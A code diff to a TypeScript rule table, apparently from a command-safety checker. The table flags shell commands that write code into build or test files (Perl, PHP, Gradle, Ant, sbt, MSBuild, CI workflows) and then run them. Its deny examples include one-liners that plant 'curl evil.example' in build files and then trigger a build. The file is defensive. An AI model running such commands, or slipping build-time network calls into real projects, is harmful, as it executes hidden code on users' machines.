@@ -273,7 +273,7 @@ export const PROJECT_ROWS: readonly Row[] = [
   },
   { names: ['perl', 'prove'], code: [{ files: /\.(?:pl|pm|t)$/, read: language('perl', 'perl') }], examples: { deny: [`echo 'system("curl evil.example")' > t/a.t && prove`], pass: ['echo \'print "ok 1\\n"\' > t/a.t && prove'] } },
   { names: ['php', 'phpunit'], code: [{ files: /\.php$/, read: language('php', 'php') }], examples: { deny: [`echo '<?php system("curl evil.example");' > tests/ATest.php && phpunit`], pass: [] } },
-  { names: ['cargo'], code: [{ files: /\.rs$/, read: unread('Rust', 'cargo') }], dir: ['-C'], examples: { deny: ["echo 'fn main(){}' > src/main.rs && cargo run"], pass: ['cargo build && cargo test'] } },
+  { names: ['cargo'], code: [{ files: /\.rs$/, read: unread('Rust', 'cargo') }, { files: /^Makefile\.toml$/, read: unread('a cargo-make task file', 'cargo make') }], dir: ['-C'], examples: { deny: ["echo 'fn main(){}' > src/main.rs && cargo run"], pass: ['cargo build && cargo test'] } },
   { names: ['go'], code: [{ files: /\.go$/, read: unread('Go', 'go') }], dir: ['-C'], runs: /^(run|test|generate)$/, examples: { deny: ["echo 'package main' > main.go && go run ."], pass: ['go test ./...', "echo 'package main' > main.go && go build ./..."] } },
   {
     names: ['gradle', 'gradlew'],
@@ -281,6 +281,26 @@ export const PROJECT_ROWS: readonly Row[] = [
     dir: ['-p', '--project-dir'],
     also: ['-I', '--init-script', '-b', '--build-file', '-c', '--settings-file'],
     examples: { deny: ["echo 'task a' > build.gradle && gradle a", `printf '"curl evil.example".execute().waitFor()\\n' > /tmp/init.gradle && gradle -I /tmp/init.gradle help`, `printf '"curl evil.example".execute()\\n' > /tmp/i.gradle && gradle --init-script=/tmp/i.gradle help`], pass: ['gradle build', 'gradle -I ci/init.gradle build'] },
+  },
+  {
+    names: ['ant'],
+    code: [{ files: /^build\.xml$/, read: unread('an Ant build file (its exec tasks run programs)', 'ant') }],
+    file: ['-f', '-file', '-buildfile'],
+    examples: { deny: [`printf '<project><target name="x"><exec executable="curl"/></target></project>' > build.xml && ant x`], pass: ['ant test', 'echo hi > notes.txt && ant test'] },
+  },
+  { names: ['sbt'], code: [{ files: /\.sbt$|^project\/[^/]+\.(?:scala|sbt)$/, read: unread('an sbt build (Scala code)', 'sbt') }], examples: { deny: [`printf 'val x = "curl evil.example".!!' > build.sbt && sbt compile`], pass: ['sbt test'] } },
+  {
+    // MSBuild projects run their Exec tasks (and the targets files they import) when built.
+    names: ['msbuild', 'dotnet'],
+    code: [{ files: /\.(?:csproj|fsproj|vbproj|proj|sln|slnx|props|targets)$/, read: unread('an MSBuild project (its Exec tasks run commands)', 'msbuild') }],
+    runs: /^(?:build|test|run|pack|publish|msbuild|restore|watch)$|\.(?:csproj|fsproj|vbproj|proj|sln|slnx)$/,
+    examples: { deny: [`printf '<Project><Target Name="B"><Exec Command="curl evil.example"/></Target></Project>' > a.csproj && dotnet build`, `printf '<Project><Target Name="B"><Exec Command="curl evil.example"/></Target></Project>' > x.proj && msbuild x.proj`], pass: ['dotnet build', 'echo hi > notes.txt && dotnet test'] },
+  },
+  {
+    // Local runners of CI pipelines: the workflow's steps run (in containers with the network).
+    names: ['act', 'gitlab-runner', 'gitlab-ci-local'],
+    code: [{ files: /^(?:\.github\/workflows\/[^/]+\.ya?ml|\.gitlab-ci\.ya?ml)$/, read: unread('a CI pipeline (its steps run commands)', 'the CI runner') }],
+    examples: { deny: [`printf 'on: push\\njobs:\\n  a:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl evil.example\\n' > .github/workflows/x.yml && act`], pass: ['act -l', 'echo hi > notes.txt && act'] },
   },
   { names: ['mvn'], code: [{ files: /(?:^|\/)pom\.xml$/, read: unread('a Maven build (its plugins run programs)', 'mvn') }], examples: { deny: ["echo '<project/>' > pom.xml && mvn package"], pass: ['mvn -q package'] } },
   {
